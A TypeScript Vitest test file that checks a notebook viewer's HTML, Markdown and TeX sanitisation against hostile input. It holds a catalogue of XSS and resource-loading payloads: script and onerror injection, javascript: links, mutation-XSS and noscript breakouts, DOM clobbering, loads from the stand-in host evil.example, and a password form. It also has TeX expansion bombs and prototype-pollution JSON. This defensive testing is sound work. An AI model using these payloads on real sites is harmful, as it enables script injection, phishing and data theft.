import { afterEach, describe, expect, it, vi } from 'vitest';
import type { NotebookOutput } from './notebook-document.ts';
import { markdownNodes, typesetIn } from './notebook-markdown.ts';
import { outputsOf } from './output-of.ts';
import { readNotebook } from './read-notebook.ts';
import { sealedDocument, tableNodes } from './safe-html.ts';

/** Everything that could run, load or lead away; each is tried as markdown, as an output and in the sealed frame. */
const attacks: readonly (readonly [string, string])[] = [
  ['a script', '<script>window.hit()</script>'],
  ['a script from elsewhere', '<script src="https://evil.example/a.js"></script>'],
  ['an event handler', '<img src=x onerror="window.hit()">'],
  ['an event handler of its own spelling', '<IMG/SRC=x OnErRoR=window.hit()>'],
  ['an svg that loads', '<svg onload="window.hit()"><script>window.hit()</script></svg>'],
  ['an svg that uses another', '<svg><use href="https://evil.example/a.svg#x"/></svg>'],
  [
    'an animated link in an svg',
    '<svg><a><animate attributeName=href values="javascript:hit()"/><text>x</text></a></svg>',
  ],
  ['a javascript link', '<a href="java&#115;cript:window.hit()">x</a>'],
  ['a data link', '<a href="data:text/html,<script>hit()</script>">x</a>'],
  [
    'a frame',
    '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>hit()</script>"></iframe>',
  ],
  ['an object', '<object data="https://evil.example/a.swf"></object><embed src="https://evil.example/a">'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['another base', '<base href="https://evil.example/">'],
  ['a style sheet from elsewhere', '<link rel="stylesheet" href="https://evil.example/a.css">'],
  [
    'a prefetch',
    '<link rel="dns-prefetch" href="//evil.example"><link rel="preload" href="https://evil.example">',
  ],
  ['styles', '<style>@import url(https://evil.example/a.css); body{display:none}</style>'],
  [
    'an overlay',
    '<div style="position:fixed;inset:0;z-index:99999;background:url(https://evil.example)">x</div>',
  ],
  ['a remote font', '<style>@font-face{font-family:x;src:url(https://evil.example/a.woff2)}</style>'],
  [
    'a picture from elsewhere',
    '<img src="https://evil.example/pixel.png" srcset="https://evil.example/2.png 2x">',
  ],
  ['a picture without a scheme', '<img src="//evil.example/pixel.png"><img src="/api/v1/models">'],
  [
    'a background',
    '<table background="https://evil.example/a.png"><tr><td background="//evil.example">1</td></tr></table>',
  ],
  [
    'a form',
    '<form action="https://evil.example"><input name=password autofocus onfocus=hit()><button>Sign</button></form>',
  ],
  [
    'media',
    '<video src="https://evil.example/v" autoplay poster="//evil.example/p"></video><audio src="//evil.example">',
  ],
  ['clobbered names', '<form id="cookie" name="body"></form><a id="sign" name="location">x</a>'],
  ['a template', '<template shadowrootmode="open"><script>hit()</script></template>'],
  [
    'a mutation',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  ],
  ['a noscript', '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>'],
  ['a dialog', '<dialog open style="position:fixed">x</dialog><div popover id=p>x</div>'],
  ['a ping', '<a href="https://example.org" ping="https://evil.example" onclick="hit()">x</a>'],
  [
    'XML',
    '<?xml-stylesheet href="https://evil.example"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">hit()</x:script>',
  ],
];

const forbidden =
  'script, iframe, object, embed, meta, base, link, style, form, input, button, video, audio, dialog, template, [style], [id], [name], [class], [srcset], [background], [ping], [popover], [autofocus]';

function expectHarmless(nodes: ParentNode, own: string = forbidden): void {
  expect(nodes.querySelector(own)?.outerHTML).toBeUndefined();
  for (const element of nodes.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on/i);
      if (name === 'src') expect(value).toMatch(/^data:image\//);
      if (/href$/.test(name)) expect(value).toMatch(/^(https?:\/\/|mailto:)/);
    }
  }
}

const hit = vi.fn();
Object.assign(window, { hit });
afterEach(() => expect(hit).not.toHaveBeenCalled());

describe('a hostile notebook', () => {
  it.each(attacks)('runs and loads nothing in prose: %s', (_name, html) => {
    const place = document.createElement('div');
    document.body.append(place);
    place.replaceChildren(markdownNodes(`${html}\n\ntext ${html} text`));
    expectHarmless(place);
    place.remove();
  });

  it.each(attacks)('runs and loads nothing in an output, sealed or as a table: %s', (_name, html) => {
    const parsed = new DOMParser().parseFromString(sealedDocument(html), 'text/html');
    expect(parsed.querySelectorAll('meta')).toHaveLength(3);
    for (const own of parsed.querySelectorAll('meta')) own.remove();
    expectHarmless(
      parsed,
      'script, iframe, object, embed, meta, base, link, style, form, input, button, video, audio, a, [style], [srcset], [background], [href], [ping], [autofocus]',
    );
    const table = tableNodes(`<table><tr><td>${html}</td></tr></table>`);
    if (table) expectHarmless(table, `${forbidden}, img, a, svg`);
  });

  it.each([
    ['a javascript link', '[x](javascript:hit())'],
    ['one in capitals and blanks', '[x]( JaVaScRiPt:hit() )'],
    ['an autolink', '<javascript:hit()>'],
    ['a picture from elsewhere', '![x](https://evil.example/a.png)'],
    ['a picture as HTML', '![x](data:text/html;base64,PHNjcmlwdD4=)'],
    ['a link into the portal', '[x](/api/v1/models) [y](#sign)'],
    ['an attachment that is not there', '![x](attachment:__proto__)'],
  ])('neither runs nor loads by Markdown: %s', (_name, source) => {
    const nodes = markdownNodes(source);
    expectHarmless(nodes);
    expect(nodes.querySelector('[src], [href]')).toBeNull();
  });

  it.each([
    ['a link', '\\href{javascript:hit()}{x}'],
    ['an address', '\\url{https://evil.example}'],
    ['a picture', '\\includegraphics{https://evil.example/a.png}'],
    ['HTML', '\\htmlStyle{position:fixed}{x} \\htmlId{sign}{x} \\htmlData{a=b}{x}'],
    ['a definition without an end', '\\def\\a{\\a\\a}\\a'],
    [
      'a doubling',
      '\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b}\\def\\d{\\c\\c\\c\\c\\c\\c\\c\\c}\\d\\d\\d\\d\\d\\d\\d\\d',
    ],
    ['tags', '\\text{<img src=x onerror=hit()>}'],
  ])(
    'does nothing by formulas: %s',
    async (_name, tex) => {
      const place = document.createElement('div');
      document.body.append(place);
      place.append(markdownNodes(`$${tex}$\n\n$$\n${tex}\n$$`));
      await typesetIn(place);
      expectHarmless(place, `${forbidden.replace('[name], ', '')}, img, a`);
      place.remove();
    },
    20_000,
  );

  it('keeps what has a type of its own as text', () => {
    const data = {
      'application/javascript': 'window.hit()',
      'application/vnd.jupyter.widget-view+json': { model_id: 'x' },
      'application/pdf': 'JVBERi0=',
      __proto__x: 'y',
    };
    const kinds = outputsOf({ output_type: 'display_data', data }).map(({ kind }) => kind);
    expect(kinds).toEqual(['unknown', 'unknown', 'unknown', 'unknown']);
  });

  it('is not misled by keys that every object inherits', () => {
    const text =
      '{"nbformat":4,"__proto__":{"cells":[]},"constructor":{"prototype":{"hit":1}},"metadata":{"__proto__":{"kernelspec":{}}},"cells":[{"cell_type":"markdown","source":"![a](attachment:a) ","attachments":{"__proto__":{"image/png":"AAAA"},"a":{"image/png":"AAAA"}}},{"cell_type":"code","source":[],"outputs":[{"output_type":"display_data","data":{"__proto__":"x","constructor":"y","text/plain":"kept"}}]}]}';
    const notebook = readNotebook(text);
    expect(notebook?.cells).toHaveLength(2);
    expect(Object.hasOwn(Object.prototype, 'hit')).toBe(false);
    expect(notebook?.cells[1]).toMatchObject({
      outputs: [
        { kind: 'text', text: 'kept' },
        { kind: 'unknown', type: '__proto__' },
        { kind: 'unknown', type: 'constructor' },
      ],
    });
  });

  it('is answered where it is no notebook, or a strange one', () => {
    for (const text of ['', 'null', '[]', '{}', '{"cells":{}}', '"x"', '{"cells":', '[[[[']) {
      expect(readNotebook(text)).toBeNull();
    }
    const strange = {
      cells: [
        null,
        1,
        'x',
        [],
        {},
        { cell_type: 7, source: { a: 1 } },
        {
          cell_type: 'code',
          outputs: [
            null,
            'x',
            [],
            {},
            { output_type: 'stream', text: 7 },
            { output_type: 'error', traceback: 'x' },
            { output_type: 'display_data', data: [] },
          ],
        },
      ],
    };
    expect(readNotebook(JSON.stringify(strange))?.cells).toHaveLength(3);
  });

  it('may nest as deeply as it likes', () => {
    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    const text = `{"cells":[{"cell_type":"code","source":"x","outputs":[{"output_type":"display_data","data":{"application/json":${deep}}}]}]}`;
    const notebook = readNotebook(text);
    expect(notebook === null || notebook.cells.length === 1).toBe(true);
    expect(markdownNodes('> '.repeat(2_000)).textContent).toBeDefined();
  }, 20_000);

  it('draws a huge picture by name alone, and cuts a huge text', () => {
    const [picture] = outputsOf({
      output_type: 'display_data',
      data: { 'image/png': 'A'.repeat(13_000_000) },
    });
    expect(picture).toMatchObject({ kind: 'unknown', type: 'image/png' });
    const [text] = outputsOf({ output_type: 'stream', name: 'stdout', text: 'x'.repeat(1_000_000) });
    expect(text).toMatchObject({ kind: 'text', cut: true } satisfies Partial<NotebookOutput>);
  });

  it('draws pictures as pictures only, an SVG too', () => {
    const of = (type: string, value: string) =>
      outputsOf({ output_type: 'display_data', data: { [type]: value } })[0];
    expect(of('image/png', 'javascript:hit()')).toMatchObject({ kind: 'unknown' });
    expect(of('image/svg+xml', '<svg onload="hit()"/>')).toMatchObject({
      kind: 'picture',
      url: 'data:image/svg+xml,%3Csvg%20onload%3D%22hit()%22%2F%3E',
    });
  });

  it('cannot make source read otherwise than it runs', () => {
    const notebook = readNotebook(
      JSON.stringify({ cells: [{ cell_type: 'code', source: 'if x:\u202e } \u200b' }] }),
    );
    expect(notebook?.cells[0]).toMatchObject({ source: 'if x:⟨U+202E⟩ } ⟨U+200B⟩' });
  });
});
